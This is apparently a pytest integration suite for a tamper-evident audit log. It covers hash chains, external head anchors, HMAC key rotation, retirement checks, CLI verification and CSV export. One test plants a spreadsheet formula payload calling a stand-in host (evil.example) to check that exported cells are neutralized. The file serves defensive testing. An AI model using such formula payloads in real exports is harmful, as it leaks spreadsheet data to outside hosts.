"""An audit log you can anchor: the head kept outside, an HMAC key, retirements in the chain."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import text

from service import create_app
from service.audit import store as audit
from service.audit.chain import KEY_ENABLED, AuditKey, event_digest
from service.audit.events import ContractRetired
from service.audit.store import seal
from service.auth.service import create_token
from service.auth.tokens import Role
from service.cli import main
from service.common.clock import utcnow
from service.contracts.store import insert_retirement
from service.db.database import Database
from tests.integration.conftest import ADMIN_TOKEN, Auth
from tests.integration.factories import fit_body

KEY = "k" * 16 + "e" * 16 + "y" * 8
OLD_KEY = "o" * 40


def fitted(client: FlaskClient, headers: dict[str, str], model: str = "glyphs") -> dict:
    response = client.post("/v1/contracts/fit", json=fit_body(model), headers=headers)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def verify(client: FlaskClient, headers: dict[str, str], query: str = "") -> dict:
    response = client.get(f"/v1/audit/verify{query}", headers=headers)
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def anchored(head: dict[str, Any]) -> str:
    return f"?expected_seq={head['seq']}&expected_sha256={head['sha256']}"


def rehash(db: Database, from_seq: int, key: bytes | None = None) -> None:
    """What someone with write access but without the key does after editing an event: recompute
    every hash from ``from_seq`` on (plain SHA-256, or HMAC under a key of their own)."""
    with db.engine.begin() as connection:
        rows = connection.execute(
            text("SELECT * FROM audit_events WHERE seq >= :s ORDER BY seq"), {"s": from_seq}
        ).mappings()
        rows = list(rows)
        prev = connection.execute(
            text("SELECT sha256 FROM audit_events WHERE seq < :s ORDER BY seq DESC LIMIT 1"),
            {"s": from_seq},
        ).scalar() or ("0" * 64)
    with db.session() as session:
        for row in rows:
            event = next(e for e in audit.iter_chain(session) if e.seq == row["seq"])
            digest = event_digest(prev, event, key)
            session.execute(
                text("UPDATE audit_events SET prev_sha256 = :p, sha256 = :h WHERE seq = :s"),
                {"p": prev, "h": digest, "s": event.seq},
            )
            prev = digest
        session.commit()


def sql(db: Database, statement: str, **params: Any) -> None:
    with db.engine.begin() as connection:
        connection.execute(text(statement), params)


def keyed_app(database_url: str, keys: str = KEY) -> Flask:
    """An app on ``database_url`` whose ``CALMON_AUDIT_KEY`` is ``keys``; the caller disposes
    of its database."""
    application = create_app(
        {
            "database_url": database_url,
            "admin_token": ADMIN_TOKEN,
            "audit_key": keys,
            "refresh_in_service": False,
        }
    )
    application.config["TESTING"] = True
    return application


@pytest.fixture
def keyed(app: Flask, database_url: str) -> Iterator[Flask]:
    """A second app on the same database with ``CALMON_AUDIT_KEY`` set (``app`` wipes it)."""
    application = keyed_app(database_url)
    try:
        yield application
    finally:
        application.extensions["calmon.database"].dispose()


ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}


def sealed(application: Flask) -> None:
    """What `calmon migrate` does under the application's key: start the keyed segment and
    write the keyed head."""
    database: Database = application.extensions["calmon.database"]
    with database.session() as session:
        assert seal(session, actor="tests", now=utcnow())
        session.commit()


def test_a_deleted_tail_fails_against_the_kept_head(
    client: FlaskClient, auth: Auth, db: Database
) -> None:
    contract = fitted(client, ADMIN)
    auth.token("reader")
    client.post("/v1/gate", json={"contract_id": contract["id"]}, headers=ADMIN)
    report = verify(client, ADMIN)
    assert report["valid"] and report["chain"]["scheme"] == "sha256"
    head = report["head"]
    assert head["seq"] == report["events"] and len(head["sha256"]) == 64
    kept = verify(client, ADMIN, anchored(head))
    assert kept["valid"] and kept["anchor"] == {**head_of(head), "valid": True, "reason": None}

    client.post(
        f"/v1/contracts/{contract['id']}/retire", json={"reason": "replaced"}, headers=ADMIN
    )
    assert verify(client, ADMIN, anchored(head))["valid"], "later events keep the anchor"

    sql(db, "DELETE FROM audit_events WHERE seq >= :s", s=head["seq"] - 1)
    sql(db, "DELETE FROM contract_retirements")
    cut = verify(client, ADMIN, anchored(head))
    assert cut["chain"]["valid"], "a cut chain still links: only the anchor can tell"
    assert cut["valid"] is False and cut["anchor"]["valid"] is False
    assert cut["first_invalid_seq"] == head["seq"]
    assert "newer events were deleted" in cut["reason"]

    client.post("/v1/gate", json={"contract_id": contract["id"]}, headers=ADMIN)
    client.post("/v1/gate", json={"contract_id": contract["id"]}, headers=ADMIN)
    regrown = verify(client, ADMIN, anchored(head))
    assert regrown["chain"]["valid"] and regrown["head"]["seq"] >= head["seq"]
    assert regrown["valid"] is False and not regrown["anchor"]["valid"]


def head_of(head: dict[str, Any]) -> dict[str, Any]:
    return {"seq": head["seq"], "sha256": head["sha256"]}


def test_a_rewritten_and_rehashed_chain_verifies_alone_but_fails_the_anchor(
    client: FlaskClient, auth: Auth, db: Database
) -> None:
    fitted(client, ADMIN)
    auth.token("reader")
    auth.token("ingest")
    head = verify(client, ADMIN)["head"]
    sql(db, "UPDATE audit_events SET actor = 'someone-else' WHERE seq = :s", s=head["seq"] - 1)
    assert verify(client, ADMIN)["first_invalid_seq"] == head["seq"] - 1
    rehash(db, head["seq"] - 1)
    rewritten = verify(client, ADMIN, anchored(head))
    assert rewritten["chain"]["valid"], "without a key, recomputed hashes link again"
    assert rewritten["valid"] is False
    assert rewritten["anchor"]["valid"] is False and "rewritten" in rewritten["anchor"]["reason"]


def test_with_the_key_a_rewritten_chain_fails(
    client: FlaskClient, keyed: Flask, db: Database
) -> None:
    fitted(client, ADMIN, "before-the-key")
    plain_head = verify(client, ADMIN)["head"]
    sealed(keyed)
    signer = keyed.test_client()
    contract = fitted(signer, ADMIN, "under-the-key")
    signer.post("/v1/gate", json={"contract_id": contract["id"]}, headers=ADMIN)
    signer.post(
        f"/v1/contracts/{contract['id']}/retire", json={"reason": "replaced"}, headers=ADMIN
    )
    events = signer.get("/v1/audit/events", headers=ADMIN).get_json()["events"]
    assert [e["type"] for e in events] == [
        "contract_fitted",
        KEY_ENABLED,
        "contract_fitted",
        "gate_decided",
        "contract_retired",
    ]
    enabled = events[1]
    assert enabled["details"] == {"key_id": AuditKey.from_text(KEY).key_id, "previous_key_id": None}
    assert enabled["prev_sha256"] == plain_head["sha256"]
    report = verify(signer, ADMIN, anchored(plain_head))
    assert report["valid"], report
    assert report["chain"] == {
        **report["chain"],
        "scheme": "hmac-sha256",
        "keyed_from_seq": enabled["seq"],
        "key_id": enabled["details"]["key_id"],
    }
    assert KEY not in str(report)

    without_key = verify(client, ADMIN)
    assert without_key["valid"] is False and without_key["first_invalid_seq"] == enabled["seq"]
    assert "CALMON_AUDIT_KEY" in without_key["reason"]

    target = events[3]["seq"]
    sql(db, "UPDATE audit_events SET actor = 'someone-else' WHERE seq = :s", s=target)
    rehash(db, target)
    plain = verify(signer, ADMIN)
    assert plain["valid"] is False and plain["first_invalid_seq"] == target
    assert "plain SHA-256 inside the segment" in plain["reason"]
    rehash(db, target, key=b"a guess at the key, or another key entirely")
    guessed = verify(signer, ADMIN)
    assert guessed["first_invalid_seq"] == target
    assert guessed["reason"] == "the event's content does not match its hash"

    sql(db, "DELETE FROM audit_events WHERE type = :t", t=KEY_ENABLED)
    sql(db, "DELETE FROM contract_retirements")
    sql(db, "DELETE FROM audit_events WHERE type = 'contract_retired'")
    rehash(db, 1)
    rebuilt = verify(signer, ADMIN)
    assert rebuilt["chain"]["valid"] is False, "an all-plain rebuild is refused under the key"
    assert "no event is keyed" in rebuilt["reason"]
    unkeyed = verify(client, ADMIN)
    assert unkeyed["chain"]["valid"], "(which a verifier without the key cannot see)"
    assert [p["differences"] for p in unkeyed["problems"]] == [
        {"decided_by": {"row": "bootstrap-admin", "event": "someone-else"}}
    ], "the rewritten actor no longer matches the decision it recorded"


def test_older_keys_still_verify_their_segments(
    client: FlaskClient, app: Flask, database_url: str
) -> None:
    old, rotated, new_only = (
        keyed_app(database_url, OLD_KEY),
        keyed_app(database_url, f"{KEY},{OLD_KEY}"),
        keyed_app(database_url, KEY),
    )
    try:
        sealed(old)
        fitted(old.test_client(), ADMIN, "a")
        fitted(rotated.test_client(), ADMIN, "b")
        events = client.get(f"/v1/audit/events?type={KEY_ENABLED}", headers=ADMIN).get_json()
        assert [e["details"]["key_id"] for e in events["events"]] == [
            AuditKey.from_text(OLD_KEY).key_id,
            AuditKey.from_text(KEY).key_id,
        ]
        assert (
            events["events"][1]["details"]["previous_key_id"] == AuditKey.from_text(OLD_KEY).key_id
        )
        assert verify(rotated.test_client(), ADMIN)["valid"]
        alone = verify(new_only.test_client(), ADMIN)
        assert alone["valid"] is False and AuditKey.from_text(OLD_KEY).key_id in alone["reason"]
    finally:
        for application in (old, rotated, new_only):
            application.extensions["calmon.database"].dispose()


def test_a_short_key_is_refused(database_url: str) -> None:
    with pytest.raises(ValueError, match="CALMON_AUDIT_KEY"):
        create_app({"database_url": database_url, "audit_key": "short", "refresh_in_service": 0})


def test_retirements_are_checked_against_their_events(client: FlaskClient, db: Database) -> None:
    retired = fitted(client, ADMIN, "retired")
    other = fitted(client, ADMIN, "other")
    response = client.post(
        f"/v1/contracts/{retired['id']}/retire", json={"reason": "population shift"}, headers=ADMIN
    )
    stored = response.get_json()["retirement"]
    event = client.get("/v1/audit/events?type=contract_retired", headers=ADMIN).get_json()[
        "events"
    ][0]
    assert event["details"]["retirement"] == {"contract_id": retired["id"], **stored}
    assert len(event["details"]["retirement_sha256"]) == 64
    assert verify(client, ADMIN)["retirements"] == {"valid": True, "checked": 1, "problem_count": 0}

    sql(db, "DELETE FROM contract_retirements WHERE contract_id = :c", c=retired["id"])
    active = client.get("/v1/models/retired/contract", headers=ADMIN)
    assert active.status_code == 200, "deleting the row un-retires the contract..."
    deleted = verify(client, ADMIN)
    assert deleted["valid"] is False and deleted["chain"]["valid"], "...which verify reports"
    assert deleted["retirements"] == {"valid": False, "checked": 0, "problem_count": 1}
    assert deleted["problems"] == [
        {
            "check": "retirement",
            "contract_id": retired["id"],
            "seq": event["seq"],
            "problem": "the contract_retired event has no retirement row: the row was deleted, "
            "which un-retires the contract",
        }
    ]
    assert retired["id"] in deleted["reason"]

    with db.session() as session:
        insert_retirement(
            session,
            retired["id"],
            reason="a different reason",
            retired_by="bootstrap-admin",
            now=utcnow(),
        )
        insert_retirement(
            session, other["id"], reason="never audited", retired_by="nobody", now=utcnow()
        )
        session.commit()
    problems = {p["contract_id"]: p["problem"] for p in verify(client, ADMIN)["problems"]}
    assert problems[retired["id"]].startswith("the retirement row differs from its")
    assert "reason" in problems[retired["id"]] and "retired_at" in problems[retired["id"]]
    assert problems[other["id"]] == "the retirement row has no contract_retired event in the chain"


def test_retirements_audited_before_the_fields_are_checked_by_time_actor_and_reason(
    client: FlaskClient, db: Database
) -> None:
    contract = fitted(client, ADMIN)
    now = utcnow()
    with db.session() as session:
        insert_retirement(session, contract["id"], reason="old", retired_by="ops", now=now)
        audit.append_event(
            session,
            ContractRetired(version=1, reason="old"),
            actor="ops",
            now=now,
            model="glyphs",
            contract_id=contract["id"],
        )
        session.commit()
    assert verify(client, ADMIN)["valid"]
    sql(db, "UPDATE contract_retirements SET retired_by = 'someone-else'")
    problem = verify(client, ADMIN)["problems"][0]["problem"]
    assert problem == "the retirement row differs from its contract_retired event (retired_by)"


@pytest.mark.parametrize(
    "query, field",
    [
        ("?expected_seq=3", "expected_sha256"),
        ("?expected_sha256=" + "a" * 64, "expected_seq"),
        ("?expected_seq=-1&expected_sha256=" + "a" * 64, "expected_seq"),
        ("?expected_seq=0&expected_sha256=" + "a" * 64, "expected_seq"),
        ("?expected_seq=9" * 30 + "&expected_sha256=" + "a" * 64, "expected_seq"),
        ("?expected_seq=1&expected_sha256=" + "A" * 64, "expected_sha256"),
        ("?expected_seq=1&expected_sha256=%0a", "expected_sha256"),
        ("?head=1", "head"),
    ],
)
def test_bad_anchors_are_named(client: FlaskClient, query: str, field: str) -> None:
    response = client.get(f"/v1/audit/verify{query}", headers=ADMIN)
    assert response.status_code == 422, response.get_json()
    assert field in {d["field"] for d in response.get_json()["error"]["details"]}


def test_an_anchor_beyond_an_empty_chain(client: FlaskClient) -> None:
    report = verify(client, ADMIN, "?expected_seq=1&expected_sha256=" + "0" * 64)
    assert report["events"] == 0 and report["head"] is None
    assert report["valid"] is False and "ends at seq 0" in report["reason"]


def test_the_cli_prints_the_head_and_verifies_against_it(
    client: FlaskClient,
    db: Database,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("CALMON_DATABASE_URL", database_url)
    monkeypatch.delenv("CALMON_AUDIT_KEY", raising=False)
    assert main(["audit", "head"]) == 1
    assert "empty" in capsys.readouterr().err
    fitted(client, ADMIN)
    fitted(client, ADMIN, "second")
    assert main(["audit", "head"]) == 0
    out = capsys.readouterr().out
    seq, sha = out.split()
    assert out == f"{seq} {sha}\n" and verify(client, ADMIN)["head"]["sha256"] == sha
    assert main(["audit", "verify", "--expected-seq", seq, "--expected-sha256", sha]) == 0
    capsys.readouterr()
    assert main(["audit", "verify", "--expected-seq", seq]) == 2
    assert "together" in capsys.readouterr().err
    fitted(client, ADMIN, "more")
    sql(db, "DELETE FROM audit_events WHERE seq >= :s", s=int(seq))
    sql(db, "DELETE FROM contracts WHERE model IN ('second', 'more')")
    assert main(["audit", "verify"]) == 0, "the chain alone still verifies"
    capsys.readouterr()
    assert main(["audit", "verify", "--expected-seq", seq, "--expected-sha256", sha]) == 1
    assert "newer events were deleted" in capsys.readouterr().err

    sql(db, "UPDATE audit_events SET actor = 'x'")
    assert main(["audit", "head"]) == 1, "no head is printed for a chain that does not verify"
    assert "does not verify" in capsys.readouterr().err


def test_migrate_seals_the_chain_under_a_new_key(
    client: FlaskClient,
    keyed: Flask,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    fitted(client, ADMIN)
    monkeypatch.setenv("CALMON_DATABASE_URL", database_url)
    monkeypatch.setenv("CALMON_AUDIT_KEY", KEY)
    unsealed = verify(keyed.test_client(), ADMIN)
    assert unsealed["valid"] is False and "calmon migrate" in unsealed["reason"]
    assert main(["migrate"]) == 0
    assert "continues under CALMON_AUDIT_KEY" in capsys.readouterr().err
    assert main(["migrate"]) == 0
    assert "CALMON_AUDIT_KEY" not in capsys.readouterr().err, "sealed once"
    assert verify(keyed.test_client(), ADMIN)["valid"]
    assert main(["audit", "verify"]) == 0
    capsys.readouterr()
    monkeypatch.delenv("CALMON_AUDIT_KEY")
    assert main(["audit", "verify"]) == 1


def test_csv_cells_are_never_formulas(client: FlaskClient, db: Database) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with db.session() as session:
        token = create_token(session, role=Role.ADMIN, name=formula, actor="@ops")
    fitted(client, {"Authorization": f"Bearer {token}"})
    response = client.get("/v1/audit/events?format=csv", headers=ADMIN)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["actor"] for r in rows] == ["'@ops", "'" + formula]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-1, -1),
        (None, None),
    ],
)
def test_csv_cell(value: Any, cell: Any) -> None:
    from service.web.routes.audit import csv_cell

    assert csv_cell(value) == cell
